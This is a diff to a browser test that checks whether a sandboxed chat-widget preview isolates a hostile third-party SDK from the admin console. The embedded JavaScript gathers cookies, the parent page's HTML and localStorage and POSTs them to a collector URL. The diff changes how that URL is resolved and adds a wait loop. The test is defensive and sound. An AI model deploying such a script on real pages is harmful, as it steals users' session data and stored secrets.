@@ -20,6 +20,7 @@ MARKER = "console-local-storage-marker-5"
 # What a hostile Chatwoot server's SDK tries: the console's cookies, page and storage, sent to a collector.
 HOSTILE_SDK = """
 (function () {
+  var collector = new URL("/collect", document.currentScript.src).href;  // a data: page has no base URL
   var loot = {};
   function grab(name, read) { try { loot[name] = String(read()); } catch (e) { loot[name] = "refused: " + e.name; } }
   grab("origin", function () { return window.origin; });
@@ -29,7 +30,7 @@ HOSTILE_SDK = """
   grab("topPage", function () { return window.top.document.documentElement.outerHTML; });
   grab("parentStorage", function () { return JSON.stringify(window.parent.localStorage); });
   grab("ownStorage", function () { return JSON.stringify(window.localStorage); });
-  fetch("/collect", {method: "POST", mode: "no-cors", body: JSON.stringify(loot)});
+  fetch(collector, {method: "POST", mode: "no-cors", body: JSON.stringify(loot)});
   window.chatwootSDK = {run: function () {
     window.$chatwoot = {};
     window.dispatchEvent(new Event("chatwoot:ready"));
@@ -130,6 +131,10 @@ def test_a_hostile_sdk_in_the_preview_gets_nothing_of_the_console(browser, hosti
     page.wait_for_timeout(500)
     page.screenshot(path=str(app_server["tmp"] / "widget-preview.png"), full_page=True)
 
+    for _ in range(50):
+        if hostile.collected:
+            break
+        page.wait_for_timeout(100)
     assert hostile.collected, "the hostile SDK did not run"
     loot = hostile.collected[-1]
     assert loot["origin"] == "null"  # an opaque origin
